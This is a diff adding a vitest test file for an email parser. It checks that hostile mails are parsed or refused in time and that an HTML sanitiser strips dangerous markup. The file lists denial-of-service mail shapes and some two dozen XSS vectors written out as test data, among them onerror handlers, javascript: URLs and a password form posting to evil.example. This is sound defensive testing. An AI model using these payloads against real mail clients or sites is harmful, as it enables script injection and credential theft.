@@ -1,0 +1,165 @@
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { fold } from "../../../src/email/parse/fold.ts";
+import { htmlToText } from "../../../src/email/parse/html-text.ts";
+import { createMailParser, type MailParser } from "../../../src/email/parse/parser.ts";
+import { sanitise } from "../../../src/email/parse/sanitise.ts";
+import { scale } from "../../support/proof.ts";
+import { mailOf, partsOf, text } from "./corpus/write.ts";
+
+const MIB = 1024 * 1024;
+/** Far more than any of them takes on a quiet machine, and far less than a trap takes that is sprung. */
+const MS_MAX = 20_000;
+
+let parser: MailParser;
+beforeAll(() => {
+  parser = createMailParser();
+});
+afterAll(() => parser.close());
+
+const nested = (levels: number): string => {
+  const open = Array.from(
+    { length: levels },
+    (_, level) => `--b${level}\nContent-Type: multipart/mixed; boundary="b${level + 1}"\n\n`,
+  );
+  return `${open.join("")}--b${levels}\nContent-Type: text/plain\n\ndeep\n`;
+};
+/** The long form has the sizes of the worst mails; the short one is enough to notice a trap. */
+const SIZE = scale(1, 40);
+const MANY = scale(10_000, 50_000);
+
+const TRAPS: Record<string, () => Buffer> = {
+  "10,000 parts": () =>
+    mailOf(
+      { "Content-Type": 'multipart/mixed; boundary="b1"' },
+      partsOf(
+        "b1",
+        Array.from({ length: 10_000 }, () => text("part")),
+      ),
+    ),
+  "5,000 levels": () => mailOf({ "Content-Type": 'multipart/mixed; boundary="b0"' }, nested(5_000)),
+  "a header of many MiB": () => mailOf({ "X-Large": "a".repeat(SIZE * MIB) }, "text"),
+  "many headers": () => Buffer.from(`${"X-Many: a\r\n".repeat(SIZE * 100_000)}\r\ntext`),
+  "a header of folded lines": () => Buffer.from(`Subject: a\r\n${" b\r\n".repeat(SIZE * 100_000)}\r\ntext`),
+  "an endless address list": () => mailOf({ To: "a@b.example, ".repeat(MANY) }, "text"),
+  "nested groups and comments in an address": () =>
+    mailOf({ From: `${"(".repeat(MANY)}a@b.example`, To: `${"a:".repeat(MANY)}` }, "text"),
+  "an encoded word without its end": () => mailOf({ Subject: `=?utf-8?Q?${"=?utf-8?B?".repeat(MANY)}` }, "text"),
+  "a boundary of 100,000 characters": () =>
+    mailOf({ "Content-Type": `multipart/mixed; boundary="${"b".repeat(100_000)}"` }, "text"),
+  "parameters without end": () => mailOf({ "Content-Type": `text/plain${"; a*0=b".repeat(MANY)}` }, "text"),
+  "quotes that are never closed": () =>
+    mailOf({ From: `"${"\\".repeat(100_000)}`, "Content-Type": `text/plain; name="${'\\"'.repeat(50_000)}` }, "text"),
+  "an archive that would expand": () =>
+    mailOf(
+      { "Content-Type": 'multipart/mixed; boundary="b1"' },
+      partsOf("b1", [
+        text("zip"),
+        {
+          headers: {
+            "Content-Type": "application/zip; name=bomb.zip",
+            "Content-Disposition": "attachment; filename=bomb.zip",
+            "Content-Transfer-Encoding": "base64",
+          },
+          body: Buffer.alloc(MIB).toString("base64"),
+        },
+      ]),
+    ),
+  "one line of many MiB": () => mailOf({}, "a".repeat(SIZE * MIB)),
+  "HTML of tens of thousands of levels": () =>
+    mailOf({ "Content-Type": "text/html" }, `${"<div><blockquote>".repeat(MANY)}deep`),
+  "HTML of unclosed tags": () => mailOf({ "Content-Type": "text/html" }, "<a href='".repeat(MANY)),
+  "HTML of comments": () => mailOf({ "Content-Type": "text/html" }, "<!--".repeat(MANY)),
+  "styles without end": () =>
+    mailOf(
+      { "Content-Type": "text/html" },
+      `<p style="${"color:red;".repeat(MANY)}font-family:${"a ".repeat(MANY)}!">x</p>`,
+    ),
+};
+
+describe("a hostile mail", () => {
+  it.each(Object.entries(TRAPS))(
+    "is read or refused in time, as a message and as a view, and the next one is read (%s)",
+    async (_, make) => {
+      const raw = make();
+      for (const wants of ["message", "view"] as const) {
+        const result = await parser.parse(raw, wants, wants === "view");
+        if (!result.ok) expect(result.error).not.toMatch(/Reading failed|took longer|memory/);
+      }
+      const next = await parser.parse(mailOf({}, "The next one."));
+      expect(next.ok && next.mail.text).toBe("The next one.");
+    },
+  );
+});
+
+describe("the folding of a text", () => {
+  const LINES = [
+    "On ",
+    "> ",
+    ">",
+    "From: ",
+    "Am 1 schrieb ",
+    "a <a@b",
+    "-- ",
+    "_".repeat(500),
+    "Sent: ",
+    "----- Original Message ",
+    "1".repeat(500),
+    " ".repeat(500),
+  ];
+  it.each(LINES)("takes no longer for a text made to be slow (%j)", (line) => {
+    const begunAt = performance.now();
+    for (const made of [`${line}\n`.repeat(2_000), line.repeat(2_000), `${line.repeat(20)}\n`.repeat(200)]) {
+      const { body, quoted } = fold(made);
+      expect(body + (quoted ?? "")).toBe(made);
+    }
+    expect(performance.now() - begunAt).toBeLessThan(MS_MAX);
+  });
+});
+
+describe("the HTML of a mail", () => {
+  const VECTORS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<a href="java\tscript:alert(1)">x</a>',
+    '<a href=" &#14; javascript:alert(1)">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<a href="vbscript:x">x</a>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
+    '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
+    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+    '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/a.css">',
+    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">cover</div>',
+    '<div style="background:url(javascript:alert(1));behavior:url(x);-moz-binding:url(x);expression(alert(1))">x</div>',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    "<template><img src=x onerror=alert(1)></template>",
+    "<textarea><img src=x onerror=alert(1)></textarea><title><img src=x onerror=alert(1)></title>",
+    "<p id=a name=b class=c data-x=1 onclick=alert(1) onmouseover=alert(1)>x</p>",
+    '<![CDATA[<img src=x onerror=alert(1)>]]><?xml version=1?><!DOCTYPE x [<!ENTITY a "b">]>',
+    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+    '<IMG SRC=`javascript:alert(1)`><img src="jav&#x0A;ascript:alert(1)">',
+    "<<script>alert(1)//<</script><scr<script>ipt>alert(1)</script>",
+    "<style>@import 'https://evil.example/a.css';</style><style><!--</style><img src=x onerror=alert(1)>-->",
+    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio><details open ontoggle=alert(1)>x</details>",
+    "<marquee onstart=alert(1)>x</marquee><body onload=alert(1)><frameset onload=alert(1)>",
+    '<a href="https://evil.example" target=_self ping="https://evil.example" download>x</a>',
+    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
+  ];
+  it.each(VECTORS)("neither runs, loads nor covers anything (%s)", (vector) => {
+    for (const images of [false, true]) {
+      const shown = sanitise(`<p>before</p>${vector}`, { images });
+      expect(shown).toContain("before");
+      // A title may hold any text.
+      const tags = (shown.match(/<[^>]*>/g)?.join("") ?? "").replace(/ title="[^"]*"/g, "");
+      expect(tags).not.toMatch(
+        /<\/?(script|svg|math|iframe|object|embed|form|input|button|meta|base|link|style|video|audio|template|textarea|body|frame)/i,
+      );
+      expect(tags).not.toMatch(
+        /\son\w+\s*=|javascript:|vbscript:|data:text|svg\+xml|position|z-index|url\(|expression|\s(id|name|class|ping|download|srcdoc)=/i,
+      );
+    }
+    expect(htmlToText(vector)).not.toContain("<style");
+  });
+});
